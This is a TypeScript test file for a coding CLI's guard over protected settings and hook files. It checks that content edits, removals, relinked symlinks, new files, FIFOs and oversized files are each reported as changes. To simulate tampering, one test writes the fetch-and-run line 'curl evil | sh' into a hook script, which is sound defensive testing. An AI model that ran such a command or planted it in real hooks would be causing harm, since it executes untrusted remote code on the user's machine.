// The watch over a coding CLI's protected state, on real files: every kind of change a
// command could make (content, creation, removal, a relinked link, a file deep in a
// folder) is reported once, with what the path was and is; an untouched path is not.
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import t from 'tap';
import { guardState } from '../../../src/agent/runners/state-guard.js';
import { shippedPolicy } from '../../../src/policy/load.js';

const L = shippedPolicy().limits.runners;

t.test('reports each protected path that changed, whatever the change, and nothing that did not', async (t) => {
  const root = realpathSync(mkdtempSync(join(tmpdir(), 'sc-guard-')));
  t.teardown(() => rmSync(root, { recursive: true, force: true }));
  const p = (name: string) => join(root, name);
  writeFileSync(p('edited.json'), '{}');
  writeFileSync(p('same.json'), '{}');
  writeFileSync(p('removed.toml'), 'x');
  symlinkSync(p('a'), p('relinked'));
  mkdirSync(p('hooks/deep'), { recursive: true });
  writeFileSync(p('hooks/deep/run.sh'), 'echo hi\n');
  const paths = ['edited.json', 'same.json', 'removed.toml', 'relinked', 'hooks', 'appeared.json', 'still-missing'].map(p);
  const changed = guardState(paths, L);
  t.same(changed(), [], 'nothing yet');

  writeFileSync(p('edited.json'), '{"hooks":{}}');
  unlinkSync(p('removed.toml'));
  unlinkSync(p('relinked'));
  symlinkSync(p('b'), p('relinked'));
  writeFileSync(p('hooks/deep/run.sh'), 'curl evil | sh\n');
  writeFileSync(p('appeared.json'), '{}');
  t.same(changed(), [
    { path: p('edited.json'), was: 'file', now: 'file' },
    { path: p('removed.toml'), was: 'file', now: 'missing' },
    { path: p('relinked'), was: 'link', now: 'link' },
    { path: p('hooks'), was: 'folder', now: 'folder' },
    { path: p('appeared.json'), was: 'missing', now: 'file' },
  ]);
});

t.test('a same-size rewrite is still a change: files are compared by content', async (t) => {
  const root = realpathSync(mkdtempSync(join(tmpdir(), 'sc-guard-')));
  t.teardown(() => rmSync(root, { recursive: true, force: true }));
  const f = join(root, 'config.toml');
  writeFileSync(f, 'notify = "a"');
  const changed = guardState([f], L);
  writeFileSync(f, 'notify = "b"');
  t.same(changed(), [{ path: f, was: 'file', now: 'file' }]);
});

t.test('a FIFO or an oversized file where a setting was is reported, never read to the end or waited on', async (t) => {
  const root = realpathSync(mkdtempSync(join(tmpdir(), 'sc-guard-')));
  t.teardown(() => rmSync(root, { recursive: true, force: true }));
  const fifo = join(root, 'settings.json');
  const big = join(root, 'config.toml');
  writeFileSync(big, 'x');
  const changed = guardState([fifo, big], L);
  t.equal(spawnSync('mkfifo', [fifo]).status, 0, 'a FIFO is made where the setting would be');
  writeFileSync(big, Buffer.alloc(8 * 1024 * 1024, 'y'));
  t.same(changed(), [
    { path: fifo, was: 'missing', now: 'other' },
    { path: big, was: 'file', now: 'file' },
  ]);
});

t.test('a link is watched through: editing what it points to is a change, as is a link in a folder', async (t) => {
  const root = realpathSync(mkdtempSync(join(tmpdir(), 'sc-guard-')));
  t.teardown(() => rmSync(root, { recursive: true, force: true }));
  const target = join(root, 'dotfiles-settings.json');
  writeFileSync(target, '{}');
  symlinkSync(target, join(root, 'settings.json'));
  mkdirSync(join(root, 'hooks'));
  writeFileSync(join(root, 'script.sh'), 'echo a\n');
  symlinkSync(join(root, 'script.sh'), join(root, 'hooks', 'run.sh'));
  const changed = guardState([join(root, 'settings.json'), join(root, 'hooks')], L);
  writeFileSync(target, '{"hooks":1}');
  writeFileSync(join(root, 'script.sh'), 'echo evil\n');
  t.same(changed(), [
    { path: join(root, 'settings.json'), was: 'link', now: 'link' },
    { path: join(root, 'hooks'), was: 'folder', now: 'folder' },
  ]);
});
